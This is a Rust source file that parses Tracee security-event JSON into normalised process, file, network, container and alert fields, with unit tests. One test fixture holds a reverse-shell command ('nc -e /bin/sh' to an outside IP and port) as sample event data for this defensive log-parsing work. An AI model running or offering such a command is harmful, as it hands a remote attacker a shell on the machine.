//! Tracee's JSON events (`tracee`): what `tracee --output json` writes, one event a line
//! (`{"timestamp": <ns>, "eventName": "sched_process_exec", "processName": ..., "args":
//! [{"name": ..., "type": ..., "value": ...}], ...}`), and the detections Tracee's signatures
//! write in the same shape (with `metadata`).
//!
//! | Tracee | our field |
//! |---|---|
//! | `eventName` | `event.action`; `sched_process_exec`, `execve`, `execveat`, `security_bprm_check` → `process`/`start`; `sched_process_exit` → `process`/`end`; `security_file_open`, `open`, `openat`, `openat2` → `file`/`access` (`change` when the flags write, create or truncate); `security_inode_unlink`, `security_inode_rename`, `vfs_write`, `magic_write`, `chmod`... → `file`/`change`; `security_socket_connect`, `connect` → `network`/`connection`; others no category |
//! | args `pathname` (else `cmdpath`, else `executable.path`), `argv` | `process.executable`, `process.args`, `process.command_line` (exec events) |
//! | `processName`, `hostProcessId`, `hostParentProcessId`, `userId` | `process.name` (exec events of `execve`: the new program's base name), `process.pid`, `process.parent.pid`, `user.id` (host pids, as the agent writes them) |
//! | `container.{id,name,image}` (else `containerId`, `containerName`, `containerImage`) | `container.*` |
//! | `kubernetes.{podName,podNamespace,podUID}` (else `podName`, `podNamespace`, `podUID`) | `kubernetes.*` |
//! | args `pathname` (file events), `remote_addr` (connect events), `src`/`src_port`/`dst`/`dst_port` (packet events) | `file.path`, `source.*`, `destination.*` |
//! | `timestamp` (ns), `hostName` | `@timestamp`, `host.name` |
//! | `metadata` (a signature's detection) | `event.kind: alert`, `rule.name` (the signature's name), `rule.description` |
//!
//! The event's own fields (`eventName`, `eventId`, `syscall`, `returnValue`, namespace pids,
//! `matchedPolicies`, `metadata`) and its arguments as an object (`args.<name>`) are kept under
//! `tracee.*`. Detected by a string `eventName` with `processName` and an `args` array.

use crowsnest_model::{ecs, format_timestamp, parse_timestamp, Event};
use serde_json::{json, Map, Value};

use crate::error::FieldError;
use crate::registry::{Context, Parser, Record};
use crate::sensor::{basename, int, text, Kind, Proc, Seen};
use crate::{finish, Decoded, LineError};

/// The Tracee parser.
#[derive(Debug)]
pub struct Tracee;

impl Parser for Tracee {
    fn name(&self) -> &'static str {
        "tracee"
    }

    fn detect(&self, object: &Map<String, Value>) -> bool {
        object.get("eventName").is_some_and(Value::is_string)
            && object.contains_key("processName")
            && object
                .get("args")
                .is_some_and(|a| a.is_array() || a.is_null())
    }

    fn parse(&self, record: Record<'_>, cx: &Context<'_>, out: &mut Decoded) {
        let Record::Json { text, object } = record else {
            let reason = "expected a Tracee JSON event (`eventName`, `processName`, `args`)";
            return out.errors.push(LineError::new(cx.line, reason));
        };
        match map(&object) {
            Ok(event) => out.events.push(finish(event, text, cx.limits)),
            Err(error) => out.errors.push(error.at(cx.line)),
        }
    }
}

fn string(object: &Map<String, Value>, key: &str) -> Option<String> {
    text(object.get(key))
}

/// The event's arguments as `name → value`.
fn arguments(object: &Map<String, Value>) -> Result<Map<String, Value>, FieldError> {
    let mut out = Map::new();
    let list = match object.get("args") {
        None | Some(Value::Null) => return Ok(out),
        Some(Value::Array(list)) => list,
        Some(_) => return Err(FieldError::field("args", "expected an array")),
    };
    for (i, arg) in list.iter().enumerate() {
        let name = arg.get("name").and_then(Value::as_str).ok_or_else(|| {
            FieldError::field(format!("args.{i}.name"), "expected a string argument name")
        })?;
        out.insert(
            name.to_string(),
            arg.get("value").cloned().unwrap_or(Value::Null),
        );
    }
    Ok(out)
}

fn kind(name: &str, args: &Map<String, Value>) -> Kind {
    match name {
        "sched_process_exec" | "execve" | "execveat" | "security_bprm_check" => Kind::Exec,
        "sched_process_exit" => Kind::Exit,
        "security_file_open" | "open" | "openat" | "openat2" => {
            let writes = args
                .get("flags")
                .and_then(Value::as_str)
                .is_some_and(crate::sensor::opens_for_writing);
            Kind::file(writes)
        }
        "security_inode_unlink"
        | "security_inode_rename"
        | "security_inode_mknod"
        | "security_inode_symlink"
        | "vfs_write"
        | "vfs_writev"
        | "magic_write"
        | "chmod"
        | "fchmod"
        | "fchmodat"
        | "unlink"
        | "unlinkat"
        | "rename"
        | "renameat"
        | "creat"
        | "security_path_notify" => Kind::FileChange,
        "security_socket_connect" | "connect" => Kind::Connect,
        _ => Kind::Other,
    }
}

fn map(object: &Map<String, Value>) -> Result<Event, FieldError> {
    let name = object
        .get("eventName")
        .and_then(Value::as_str)
        .ok_or_else(|| FieldError::field("eventName", "expected a string"))?;
    let args = arguments(object)?;
    let mut event = Event::new();
    if let Some(time) = object.get("timestamp") {
        match parse_timestamp(time) {
            Some(time) => event.set(ecs::TIMESTAMP, Value::String(format_timestamp(time))),
            None => {
                return Err(FieldError::field(
                    "timestamp",
                    "expected nanoseconds since the epoch",
                ))
            }
        }
    }
    event.set(ecs::EVENT_MODULE, json!("tracee"));
    event.set(ecs::EVENT_DATASET, json!("tracee.events"));
    let kind = kind(name, &args);
    let arg_str = |key: &str| text(args.get(key));
    let executable_path = object
        .get("executable")
        .and_then(|e| e.get("path"))
        .and_then(Value::as_str)
        .filter(|p| !p.is_empty())
        .map(str::to_string);
    let mut process = Proc {
        name: string(object, "processName"),
        pid: int(object.get("hostProcessId")).or_else(|| int(object.get("processId"))),
        executable: executable_path.clone(),
        ..Proc::default()
    };
    if kind == Kind::Exec {
        let argv: Option<Vec<String>> = args.get("argv").and_then(Value::as_array).map(|a| {
            a.iter()
                .filter_map(|v| v.as_str().map(str::to_string))
                .collect()
        });
        let program = arg_str("pathname")
            .or_else(|| arg_str("cmdpath"))
            .or(executable_path);
        if name != "sched_process_exec" {
            // The syscall's caller is the program before the exec; name the new one.
            process.name = program.as_deref().and_then(basename);
        }
        process.command_line = argv
            .as_ref()
            .map(|a| a.join(" "))
            .or_else(|| program.clone());
        process.args = argv;
        process.executable = program;
    }
    let parent = Proc {
        pid: int(object.get("hostParentProcessId")).or_else(|| int(object.get("parentProcessId"))),
        ..Proc::default()
    };
    let container = object.get("container").and_then(Value::as_object);
    let k8s = object.get("kubernetes").and_then(Value::as_object);
    let either = |nested: Option<&Map<String, Value>>, key: &str, flat: &str| {
        nested
            .and_then(|n| string(n, key))
            .or_else(|| string(object, flat))
    };
    let mut seen = Seen {
        process,
        parent,
        user_id: string(object, "userId"),
        container_id: either(container, "id", "containerId"),
        container_name: either(container, "name", "containerName"),
        image: either(container, "image", "containerImage"),
        namespace: either(k8s, "podNamespace", "podNamespace"),
        pod_name: either(k8s, "podName", "podName"),
        pod_uid: either(k8s, "podUID", "podUID"),
        host: string(object, "hostName"),
        ..Seen::default()
    };
    match kind {
        Kind::FileAccess | Kind::FileChange => {
            seen.file_path = arg_str("pathname")
                .or_else(|| arg_str("syscall_pathname"))
                .or_else(|| arg_str("new_path"));
        }
        Kind::Connect => {
            if let Some(addr) = args.get("remote_addr").and_then(Value::as_object) {
                seen.destination_ip =
                    string(addr, "sin_addr").or_else(|| string(addr, "sin6_addr"));
                seen.destination_port =
                    int(addr.get("sin_port")).or_else(|| int(addr.get("sin6_port")));
            }
        }
        _ => {
            // Packet events (`net_packet_*`) name both ends.
            seen.source_ip = arg_str("src");
            seen.source_port = int(args.get("src_port"));
            seen.destination_ip = arg_str("dst");
            seen.destination_port = int(args.get("dst_port"));
        }
    }
    seen.apply(&mut event, kind, Some(name));
    let mut raw = Map::new();
    for (key, value) in object {
        let keep = matches!(
            key.as_str(),
            "eventName"
                | "eventId"
                | "syscall"
                | "returnValue"
                | "processId"
                | "parentProcessId"
                | "threadId"
                | "hostThreadId"
                | "cgroupId"
                | "mountNamespace"
                | "pidNamespace"
                | "matchedPolicies"
                | "metadata"
                | "processEntityId"
                | "parentEntityId"
        );
        if keep {
            raw.insert(key.clone(), value.clone());
        }
    }
    raw.insert("args".into(), Value::Object(args));
    if let Some(metadata) = object.get("metadata").and_then(Value::as_object) {
        event.set(ecs::EVENT_KIND, json!("alert"));
        let rule = metadata
            .get("Properties")
            .and_then(|p| p.get("signatureName"))
            .and_then(Value::as_str)
            .unwrap_or(name);
        event.set(ecs::RULE_NAME, json!(rule));
        if let Some(description) = metadata.get("Description").and_then(Value::as_str) {
            event.set("rule.description", json!(description));
        }
    }
    event.set("tracee", Value::Object(raw));
    Ok(event)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::registry::detect;

    use crate::registry::decode_detected as decode;

    #[test]
    fn an_exec_maps_program_arguments_and_pod() {
        let line = r#"{"timestamp":1714557600000000000,"processId":12,"parentProcessId":3,"hostProcessId":4012,"hostParentProcessId":4003,"userId":0,"processName":"nc","hostName":"node-1","container":{"id":"abc","name":"web","image":"nginx:1.25"},"kubernetes":{"podName":"web-1","podNamespace":"prod"},"eventId":"710","eventName":"sched_process_exec","args":[{"name":"cmdpath","type":"const char*","value":"/usr/bin/nc"},{"name":"pathname","type":"const char*","value":"/usr/bin/nc.openbsd"},{"name":"argv","type":"const char**","value":["nc","-e","/bin/sh","1.2.3.4","4444"]}]}"#;
        let object: Map<String, Value> = serde_json::from_str(line).expect("JSON");
        assert_eq!(detect(&object).name(), "tracee");
        let decoded = decode(line);
        assert!(decoded.errors.is_empty(), "{:?}", decoded.errors);
        let event = &decoded.events[0];
        assert_eq!(event.get("event.category"), Some(&json!(["process"])));
        assert_eq!(
            event.get_str("process.executable"),
            Some("/usr/bin/nc.openbsd")
        );
        assert_eq!(
            event.get_str("process.command_line"),
            Some("nc -e /bin/sh 1.2.3.4 4444")
        );
        assert_eq!(event.get("process.pid"), Some(&json!(4012)));
        assert_eq!(event.get("process.parent.pid"), Some(&json!(4003)));
        assert_eq!(event.get_str("container.image.name"), Some("nginx"));
        assert_eq!(event.get_str("kubernetes.pod.name"), Some("web-1"));
        assert_eq!(event.get_str("tracee.args.cmdpath"), Some("/usr/bin/nc"));
    }

    #[test]
    fn bad_arguments_name_the_field() {
        let bad = decode(r#"{"eventName":"openat","processName":"cat","args":[{"value":1}]}"#);
        assert_eq!(bad.errors[0].field.as_deref(), Some("args.0.name"));
    }
}
